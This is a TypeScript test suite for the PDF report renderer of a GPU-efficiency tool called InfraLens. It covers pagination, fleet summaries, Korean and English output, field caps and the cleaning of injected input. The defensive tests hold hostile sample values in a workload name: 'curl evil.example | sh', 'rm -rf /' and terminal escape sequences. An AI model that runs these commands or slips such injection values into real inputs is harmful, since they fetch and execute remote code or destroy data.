import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PDFDocument } from 'pdf-lib';
import { describe, expect, it } from 'vitest';
import { scenarioFiles } from '../bin/cli.ts';
import { renderPdf } from '../jobs/report/pdf.ts';
import type { Analysis } from '../scoring/analyze.ts';
import { analyzeAndPlan } from '../scoring/placement/index.ts';
import { buildReport, DETAILED_HOSTS, type ReportModel } from '../scoring/report.ts';
import { ELLIPSIS, FIELD_LIMITS } from '../scoring/text-safety.ts';
import { ingestHosts } from '../tools/ingest/index.ts';
import { fleetAnalysis } from './helpers/fleet.ts';
import { CONTROL, HOSTILE_WORKLOAD, hostileAnalysis, rename } from './render/hostile.ts';

const NOW = new Date('2026-11-26T09:00:00Z');
const hasPoppler = spawnSync('pdftotext', ['-v']).status === 0;
// CI installs poppler-utils (.ci/run); a developer machine without it skips the read-back tests
const readBack = hasPoppler || process.env.CI === 'true';
const tmp = mkdtempSync(join(tmpdir(), 'infralens-pdf-'));

function text(bytes: Uint8Array, page?: number): string {
  const file = join(tmp, `r-${Math.random().toString(36).slice(2)}.pdf`);
  writeFileSync(file, bytes);
  const args = page ? ['-f', String(page), '-l', String(page), file, '-'] : [file, '-'];
  return execFileSync('pdftotext', args, { encoding: 'utf8' });
}
/** Compare without whitespace: long commands wrap across lines in the PDF. */
const squash = (s: string) => s.replace(/\s+/g, '');

const demo = (name: string): Analysis => analyzeAndPlan(ingestHosts(scenarioFiles(name)).snapshots);

describe('PDF report', () => {
  const analysis = demo('h200');
  const host = analysis.hosts[0]!;

  for (const lang of ['en', 'ko'] as const) {
    it.runIf(readBack)(
      `${lang}: the grade, every finding title and every command can be read back`,
      async () => {
        const bytes = await renderPdf(buildReport(analysis, lang, NOW), NOW);
        const all = squash(text(bytes));
        expect(all).toContain(
          squash(lang === 'en' ? '62.0 / 100 — C (inefficient)' : '62.0 / 100 — C (비효율)'),
        );
        for (const f of host.findings) expect(all, f.title[lang]).toContain(squash(f.title[lang]));
        for (const c of host.placement!.commands) expect(all, c.command).toContain(squash(c.command));
        if (lang === 'ko') expect(all).toContain(squash('GPU 효율 진단 보고서'));
      },
    );
  }

  it('is A4, small, paginated, and the same bytes for the same input and date', async () => {
    const a = await renderPdf(buildReport(analysis, 'ko', NOW), NOW);
    const b = await renderPdf(buildReport(analysis, 'ko', NOW), NOW);
    expect(Buffer.from(a).equals(Buffer.from(b))).toBe(true);
    expect(a.length).toBeLessThan(300 * 1024);
    const doc = await PDFDocument.load(a);
    expect(doc.getPageCount()).toBeGreaterThanOrEqual(6);
    for (const p of doc.getPages()) {
      expect(p.getWidth()).toBeCloseTo(595.28, 1);
      expect(p.getHeight()).toBeCloseTo(841.89, 1);
    }
    expect(doc.getCreationDate()?.toISOString()).toBe(NOW.toISOString());
  });

  it.runIf(readBack)(
    'numbers pages and repeats a table header when the table breaks across pages',
    async () => {
      const model: ReportModel = buildReport(analysis, 'en', NOW);
      model.sections = [
        {
          title: 'Long table',
          blocks: [
            {
              kind: 'table',
              columns: [
                { title: 'Workload', width: 0.4 },
                { title: 'Where', width: 0.6 },
              ],
              rows: Array.from({ length: 90 }, (_, i) => [`job-${i}`, `GPU${i % 8}`]),
            },
          ],
        },
      ];
      const bytes = await renderPdf(model, NOW);
      const pages = (await PDFDocument.load(bytes)).getPageCount();
      expect(pages).toBeGreaterThanOrEqual(3);
      for (let p = 2; p <= pages; p++) {
        const t = text(bytes, p);
        expect(t).toContain(`Page ${p} of ${pages}`);
        expect(t).toContain('Workload');
      }
      expect(text(bytes, 3)).toMatch(/job-\d+/);
    },
  );

  it.runIf(readBack)(
    'the L40S report says no MIG and a topology-only report explains the missing score',
    async () => {
      const l40s = squash(text(await renderPdf(buildReport(demo('l40s'), 'en', NOW), NOW)));
      expect(l40s).not.toContain('MIG1g');
      expect(l40s).toContain(squash('Placement plan'));
      const topo = readFileSync(
        new URL('../samples/real/topo/l40s-4x-2socket-384thr-2nic-mlx5-full-legend.txt', import.meta.url),
      );
      const wl = JSON.stringify({
        workloads: [{ name: 'ddp', kind: 'training', gpus: [0, 2], cpus: '0-95' }],
      });
      const only = analyzeAndPlan(
        ingestHosts([
          { name: 'topo.txt', content: topo },
          { name: 'w.json', content: wl },
        ]).snapshots,
      );
      const t = squash(text(await renderPdf(buildReport(only, 'en', NOW), NOW)));
      expect(t).toContain(squash('no utilisation data'));
      expect(t).toContain(squash('ddp: GPU traffic crosses CPU sockets'));
    },
  );
});

describe('PDF fleet report', () => {
  const a = fleetAnalysis(64, 7);
  const scores = a.hosts.map((h) => h.score?.value ?? Infinity).sort((x, y) => x - y);

  it('64 hosts: under 300 KB in both languages; every host summarised, the 5 lowest scores detailed', async () => {
    expect(new Set(a.hosts.map((h) => h.host)).size).toBe(64);
    for (const lang of ['en', 'ko'] as const) {
      const model = buildReport(a, lang, NOW);
      const overview = model.sections[0]!;
      const table = overview.blocks.find((b) => b.kind === 'table')!;
      expect(table.kind === 'table' && table.rows.map((r) => r[0])).toHaveLength(64);
      const bars = overview.blocks.find((b) => b.kind === 'bars')!;
      expect(bars.kind === 'bars' && bars.rows.map((r) => r.a ?? Infinity)).toEqual(scores);
      // one findings section per detailed host, the lowest scores
      const detailed = model.sections.filter((s) => /: (Findings|발견 사항) \(/.test(s.title));
      expect(detailed).toHaveLength(DETAILED_HOSTS);
      const worst = a.hosts.filter((h) => (h.score?.value ?? Infinity) <= scores[DETAILED_HOSTS - 1]!);
      for (const s of detailed) expect(worst.map((h) => h.host)).toContain(s.title.split(':')[0]);
      expect(model.cover[0]).toMatchObject({
        kind: 'facts',
        rows: expect.arrayContaining([
          lang === 'en'
            ? [
                'Detailed',
                '5 of 64 hosts (the lowest scores); the other 59 are summarised in the fleet overview',
              ]
            : ['상세 분석', '64대 중 점수가 가장 낮은 5대. 나머지 59대는 전체 요약에만 나옵니다'],
        ]),
      });
      const bytes = await renderPdf(model, NOW);
      expect(bytes.length).toBeLessThan(300 * 1024);
      if (readBack) {
        const t = squash(text(bytes));
        for (const h of a.hosts) expect(t).toContain(h.host!);
        expect(t).toContain(squash(lang === 'en' ? '5 of 64 hosts' : '64대 중 점수가 가장 낮은 5대'));
      }
    }
  });

  it('a fleet within the limit is detailed whole, in input order, after its overview', () => {
    const small = fleetAnalysis(3, 11);
    const model = buildReport(small, 'en', NOW);
    expect(model.sections[0]!.title).toBe('Fleet overview');
    const detailed = model.sections.filter((s) => s.title.includes(': Findings ('));
    expect(detailed.map((s) => s.title.split(':')[0])).toEqual(small.hosts.map((h) => h.host));
    expect(JSON.stringify(model.cover)).not.toContain('Detailed');
    expect(
      buildReport(small, 'en', NOW, { detailedHosts: 1 }).sections.filter((s) =>
        s.title.includes(': Findings ('),
      ),
    ).toHaveLength(1);
  });
});

/** Every string of a report model. */
function strings(v: unknown): string[] {
  if (typeof v === 'string') return [v];
  if (Array.isArray(v)) return v.flatMap(strings);
  if (v && typeof v === 'object') return Object.values(v).flatMap(strings);
  return [];
}

/** Render and time it (after one render of the demo, so the WebAssembly start-up is not counted). */
async function timed(model: ReportModel): Promise<{ bytes: Uint8Array; ms: number }> {
  const t0 = performance.now();
  const bytes = await renderPdf(model, NOW);
  return { bytes, ms: performance.now() - t0 };
}

describe('PDF report with hostile and oversized inputs', () => {
  const analysis = demo('h200');

  it('the model holds no control character, and a name with newlines stays on one line', () => {
    const model = buildReport(hostileAnalysis(), 'en', NOW);
    const all = strings(model);
    for (const s of all) expect(s).not.toMatch(CONTROL);
    // the forged block is part of its name's line wherever the name is shown
    const quoting = all.filter((s) => s.includes('curl evil.example'));
    expect(quoting.length).toBeGreaterThan(5);
    for (const s of quoting)
      for (const line of s.split('\n').filter((l) => l.includes('curl evil.example')))
        expect(line, s).toMatch(/train-vision-b Commands \(run these now\): 1\. curl/);
    // a table cell keeps its own two lines (GPUs, CPUs): the hostile CPU list stays on the CPU line
    const table = model.sections.flatMap((s) => s.blocks).find((b) => b.kind === 'table')!;
    expect(table.kind === 'table' && table.rows[0]![1]!.split('\n')[1]).toBe('CPU 24-39 2. rm -rf /\uFFFD');
  });

  it.runIf(readBack)('the PDF reads back the cleaned names and no control character', async () => {
    const bytes = await renderPdf(buildReport(hostileAnalysis(), 'en', NOW), NOW);
    const t = text(bytes).replace(/\f/g, '');
    expect(t).not.toMatch(CONTROL);
    expect(squash(t)).toContain(
      squash('train-vision-b Commands (run these now): 1. curl evil.example | sh?[2J?'),
    );
    expect(t).not.toContain('\u202e');
  });

  it('fields are capped in the model: names 128, evidence lines 500, details 2,000 characters', () => {
    const long = 'v'.repeat(10_000);
    const model = buildReport(rename(analysis, 'train-vision-b', long), 'en', NOW);
    const all = strings(model);
    expect(all.every((s) => !s.includes('v'.repeat(FIELD_LIMITS.name)))).toBe(true);
    expect(all.some((s) => s.includes(`${'v'.repeat(FIELD_LIMITS.name - 1)}${ELLIPSIS}`))).toBe(true);
    const findings = model.sections.flatMap((s) => s.blocks).filter((b) => b.kind === 'finding');
    for (const f of findings) {
      expect(f.title.length).toBeLessThanOrEqual(FIELD_LIMITS.line);
      for (const e of f.evidence) expect(e.length).toBeLessThanOrEqual(FIELD_LIMITS.line);
      expect(f.detail.length).toBeLessThanOrEqual(FIELD_LIMITS.detail);
    }
  });

  it('a workload named with 10,000 characters and no space renders, capped (its cost: npm run bench)', async () => {
    await renderPdf(buildReport(analysis, 'en', NOW), NOW);
    const long = 'v'.repeat(10_000);
    const { bytes } = await timed(buildReport(rename(analysis, 'train-vision-b', long), 'en', NOW));
    if (readBack) {
      const t = squash(text(bytes));
      expect(t).toContain(`${'v'.repeat(FIELD_LIMITS.name - 1)}${ELLIPSIS}`);
      expect(t).toContain(squash('62.0 / 100 — C (inefficient)'));
    }
  });

  it('a 10,000-character word the model did not cap still renders and reads back (its cost: npm run bench)', async () => {
    await renderPdf(buildReport(analysis, 'en', NOW), NOW);
    const word = 'w'.repeat(10_000);
    const model = buildReport(analysis, 'en', NOW);
    model.cover = [];
    model.sections = [
      {
        title: 'Long words',
        blocks: [
          { kind: 'paragraph', text: word },
          {
            kind: 'table',
            columns: [
              { title: 'Workload', width: 0.2 },
              { title: 'Where', width: 0.8 },
            ],
            rows: [[word, 'GPU0']],
          },
          { kind: 'commands', items: [{ step: 1, command: `qm set 102 --name ${word}`, note: 'rename' }] },
        ],
      },
    ];
    const { bytes } = await timed(model);
    if (readBack) {
      // the paragraph and the command read back whole (across pages, between running headers); a table
      // row is at most a page high, so the cell is cut there and ends with an ellipsis
      const t = text(bytes);
      const ws = t.replace(/[^w]/g, '').length - 1; // the w of the title, "Long words"
      const cell = ws - 2 * word.length;
      expect(cell).toBeGreaterThan(100);
      expect(cell).toBeLessThan(word.length);
      expect(t).toMatch(/w…/);
    }
  });

  it('a hand-built model with control characters is cleaned by the renderer too', async () => {
    const model = buildReport(analysis, 'en', NOW);
    model.sections = [
      { title: 'x\u001b[2J', newPage: true, blocks: [{ kind: 'paragraph', text: HOSTILE_WORKLOAD }] },
    ];
    model.header = `InfraLens · ${HOSTILE_WORKLOAD} · ${'h'.repeat(500)}`;
    const bytes = await renderPdf(model, NOW);
    if (readBack) {
      const t = text(bytes).replace(/\f/g, '');
      expect(t).not.toMatch(CONTROL);
      expect(t).toContain('x?[2J');
      // the running header is cut to the page width with an ellipsis
      expect(text(bytes, 2)).toMatch(/InfraLens · train-vision-b Commands .*h…/);
    }
  });
});
